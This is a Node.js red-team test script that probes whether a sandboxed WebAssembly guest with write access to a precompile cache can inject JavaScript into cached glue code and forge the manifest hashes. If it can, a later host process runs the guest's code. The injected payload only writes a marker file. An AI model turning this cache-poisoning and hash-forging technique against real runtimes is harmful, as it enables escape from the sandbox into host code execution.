// Red team probe: a guest whose writable preopen contains the precompile cache rewrites a cache
// entry (glue + a manifest with the right hashes: everything in it is computable from public
// data) and the next process that loads the component runs the guest's JavaScript as the host.
// Usage: node test/redteam/cache-via-preopen.mjs   (prints whether the marker was written)
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { spawnSync } from 'node:child_process';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createRuntime } from '../../dist/index.js';
import { guest } from '../helpers.mjs';
import { Program, ref, run } from '../wasi/fs-ops.mjs';

const top = mkdtempSync(join(tmpdir(), 'sfirt-red-cache-'));
const cacheDir = join(top, 'cache');
const marker = join(top, 'PWNED');
const victim = guest('http-hello'); // a component on jco's glue: its entry holds JavaScript
const sha = (b) => createHash('sha256').update(b).digest('hex');
let outcome;
try {
  // 1. The host loads a component (its entry is written) and a guest granted the cache's parent rw.
  const rt = createRuntime({ cacheDir });
  await rt.load('victim', victim, { glue: 'jco' });
  let fs;
  try {
    fs = await rt.load('attacker', guest('fs-ops'), { wasi: { preopens: { '/data': { hostPath: top, readOnly: false } } } });
  } catch (err) {
    outcome = `refused at load: ${err.code}: ${err.message}`;
  }
  if (fs) {
    // 2. The guest lists the cache and reads the entry (all through its preopen).
    const p = new Program();
    const d = p.getDirectories();
    const list = p.readDirAll(ref(p.openAt(ref(d), 'cache', { directory: true, read: true })));
    const r = await run(fs, p);
    const keys = r[list].value.map((e) => e.name).filter((n) => /^[0-9a-f]{32}$/.test(n));
    let key;
    const read = (name) => {
      const q = new Program();
      const dq = q.getDirectories();
      const f = q.openAt(ref(dq), `cache/${key}/${name}`, { read: true });
      const rd = q.read(ref(f), 4 << 20);
      return run(fs, q).then((x) => x[rd].value.data);
    };
    // The victim's entry is the one whose stamp names the victim's SHA-256 (public: its bytes).
    const victimHash = sha(readFileSync(victim));
    let manifestText;
    for (key of keys) {
      manifestText = Buffer.from(await read('manifest.json')).toString('utf8');
      if (manifestText.includes(victimHash)) break;
    }
    const glue = Buffer.from(await read('glue.js')).toString('utf8');
    // 3. Offline: new glue that writes a marker, and a manifest vouching for it.
    const evil = `globalThis.process.getBuiltinModule('fs').writeFileSync(${JSON.stringify(marker)}, 'guest code ran in the host');\n${glue}`;
    const manifest = JSON.parse(manifestText.slice(manifestText.indexOf('\n') + 1));
    manifest.files['glue.js'] = sha(evil);
    const body = JSON.stringify(manifest);
    const newManifest = `${sha(body)}\n${body}`;
    // 4. The guest writes both files.
    const w = new Program();
    const dw = w.getDirectories();
    for (const [name, text] of [['glue.js', evil], ['manifest.json', newManifest]]) {
      const f = w.openAt(ref(dw), `cache/${key}/${name}`, { write: true, truncate: true });
      w.write(ref(f), text);
    }
    const wr = await run(fs, w);
    const errs = wr.filter((x) => x.err).map((x) => x.err);
    // 5. A new process loads the component.
    rt.close();
    const child = spawnSync(process.execPath, ['-e', `import(${JSON.stringify(new URL('../../dist/index.js', import.meta.url).href)}).then(async ({ createRuntime }) => { const rt = createRuntime({ cacheDir: ${JSON.stringify(cacheDir)} }); const f = await rt.load('v', ${JSON.stringify(victim)}, { glue: 'jco' }); console.log(JSON.stringify(f.loadTimings)); rt.close(); })`], { encoding: 'utf8' });
    if (process.env.KEEP) console.log(child.stdout, child.stderr);
    outcome = existsSync(marker) ? `BROKEN: the guest's JavaScript ran in a new host process (guest write errors: ${errs.join(',') || 'none'})` : `held (child exit ${child.status}, write errors: ${errs.join(',') || 'none'})`;
  }
} finally {
  if (!process.env.KEEP) rmSync(top, { recursive: true, force: true }); else console.log(top);
}
console.log(JSON.stringify({ outcome }));
